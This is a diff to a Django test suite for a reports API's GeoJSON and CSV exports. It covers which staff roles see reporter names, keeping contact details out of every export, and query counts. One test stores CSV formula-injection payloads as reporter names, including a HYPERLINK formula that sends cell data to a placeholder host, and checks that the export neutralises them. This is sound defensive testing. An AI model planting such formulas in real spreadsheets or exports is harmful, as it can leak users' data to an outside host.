@@ -12,8 +12,9 @@ from django.db.models import F
 from django.utils import timezone
 
 from reports import representation
+from reports.interop import exports
 from reports.models import Report
-from tests.conftest import REPORTER_EMAIL, REPORTER_PHONE, staff_user
+from tests.conftest import REPORTER_EMAIL, REPORTER_PHONE, staff_user, verified_login
 from tests.conftest import make_report as report
 from tests.images import GANTING_GPS
 
@@ -81,7 +82,7 @@ def test_a_bad_filter_is_a_400_naming_it(client, params, field):
     assert response.status_code == 400 and field in response.json()
 
 
-def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_and_nobody_the_contact(
+def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_dispatchers_the_name_and_nobody_the_contact(
     client, django_user_model
 ):
     shown, hidden = report(), report(lat=-0.4608, hidden=True)
@@ -91,9 +92,13 @@ def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_and_nob
     client.force_login(staff_user(django_user_model, "bima", "planner"))
     _, staff = geojson(client)
     assert sorted(f["properties"]["code"] for f in staff["features"]) == sorted([shown.code, hidden.code])
-    assert staff["features"][0]["properties"]["reporter_name"] == "Siti"
-    for export in (json.dumps(public), json.dumps(staff), b"".join(client.get("/api/v1/reports.csv")
-                                                                    .streaming_content).decode()):
+    assert "hidden" in staff["features"][0]["properties"]
+    assert "reporter_name" not in staff["features"][0]["properties"]  # planners never see it
+    verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
+    _, desk = geojson(client)
+    assert desk["features"][0]["properties"]["reporter_name"] == "Siti"
+    for export in (json.dumps(public), json.dumps(staff), json.dumps(desk),
+                   b"".join(client.get("/api/v1/reports.csv").streaming_content).decode()):
         assert PHONE not in export and EMAIL not in export
 
 
@@ -130,7 +135,7 @@ def test_a_semicolon_csv_for_a_spreadsheet_that_writes_decimal_commas(client):
 def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, django_user_model):
     report(reporter_name='=HYPERLINK("http://example.org/?"&A1,"klik")', lat=GANTING_GPS[0] - 0.0001)
     report(reporter_name="@SUM(1+1)")
-    client.force_login(staff_user(django_user_model, "rina", "planner"))
+    verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
     table = csv_rows(client.get("/api/v1/reports.csv"))
     assert sorted(row["reporter_name"] for row in table) == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
                                                               "'@SUM(1+1)"]
@@ -164,7 +169,7 @@ def test_an_export_answers_in_its_own_format_whatever_the_client_accepts(client,
 def test_an_export_is_one_query_however_many_reports_and_photos(client, django_assert_num_queries, path):
     for offset in range(4):
         report(lat=GANTING_GPS[0] - offset * 0.0001, with_photo=offset < 2)
-    # PostgreSQL writes every report's text: the range of ids, then one COPY for the range (10,000 ids).
+    # PostgreSQL writes every report's text: the range of ids, then one COPY for the range of ids.
     with django_assert_num_queries(2):
         body = b"".join(client.get(path).streaming_content)
     assert body.count(b"PP-") == (8 if path.endswith(".geojson") else 4)  # a feature's id is its code too
@@ -177,3 +182,10 @@ def test_a_copy_goes_a_range_of_ids_at_a_time_in_order_and_skips_empty_ranges():
     first, _, third, fourth = (f.code.encode() for f in filed)
     assert filed[3].pk - filed[0].pk == 3  # ranges from the first id: [0, 2) holds the hidden one, [2, 4) two
     assert chunks == [first + b"\n", third + b"\n" + fourth + b"\n"]
+
+
+def test_a_csv_python_writes_follows_the_same_rules():
+    moment = datetime.datetime(2026, 11, 28, 1, 5, 9, 500000, tzinfo=datetime.UTC)
+    body = b"".join(exports.spreadsheet_stream(["when", "who", "yes", "n"], [
+        (moment, "=HYPERLINK(1)", True, 3), (moment, "Siti", False, -2)])).decode("utf-8")
+    assert body == "\ufeffwhen,who,yes,n\n2026-11-28 08:05:09,'=HYPERLINK(1),1,3\n2026-11-28 08:05:09,Siti,0,-2\n"
